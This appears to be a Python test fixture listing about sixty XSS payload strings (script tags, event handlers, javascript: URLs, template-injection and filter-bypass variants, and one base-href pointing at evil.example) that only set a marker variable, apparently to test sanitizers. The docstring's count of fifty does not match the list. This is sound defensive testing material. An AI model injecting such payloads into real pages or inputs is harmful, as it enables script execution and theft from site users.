# ruff: noqa: E501  texts, several a line

"""Fifty texts that are scripts where a page takes them for its own; each would set `window.ran`."""

_RUN = "window.ran=(window.ran||0)+1"

SCRIPTS = [text.replace("RUN", _RUN) for text in (
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "</script><script>RUN</script>", "</textarea><script>RUN</script>",
    "</title><script>RUN</script>", "</style><script>RUN</script>", "--><script>RUN</script>", "]]><script>RUN</script>",
    "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", '"><img src=x onerror=RUN>', "'><img src=x onerror=RUN>",
    '" onmouseover="RUN" x="', "' onmouseover='RUN' x='", '" autofocus onfocus="RUN" tabindex=0 x="',
    "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<math><mtext><script>RUN</script></mtext></math>", "<body onload=RUN>", "<iframe srcdoc='<script>parent.RUN</script>'>",
    "<iframe src=\"javascript:parent.RUN\">", "<object data=\"data:text/html,<script>parent.RUN</script>\">",
    "<embed src=\"javascript:RUN\">", "<a href=\"javascript:RUN\" autofocus>x</a>", "[x](javascript:RUN)",
    "![x](x\" onerror=\"RUN)", "<details open ontoggle=RUN>", "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>",
    "<marquee onstart=RUN>", "<link rel=stylesheet href=x onerror=RUN>", "<style>@import 'x'</style><img src=x onerror=RUN>",
    "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">", "<base href=//evil.example/><script src=x></script>",
    "<form><button formaction=\"javascript:RUN\" autofocus>x</button></form>", "<template><script>RUN</script></template>",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src=x onerror=RUN&#62;", "\\u003cimg src=x onerror=RUN\\u003e",
    "<scr<script>ipt>RUN</scr</script>ipt>", "<img/src=x/onerror=RUN>", "<img src=x onerror=&#119;indow.ran=1>",
    "${RUN}", "{{RUN}}", "{{constructor.constructor('RUN')()}}", "<%= RUN %>", "`;RUN;//", "';RUN;//", '";RUN;//',
    "javascript:RUN", "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<x contenteditable onbeforeinput=RUN>x</x>",
)]  # fmt: skip
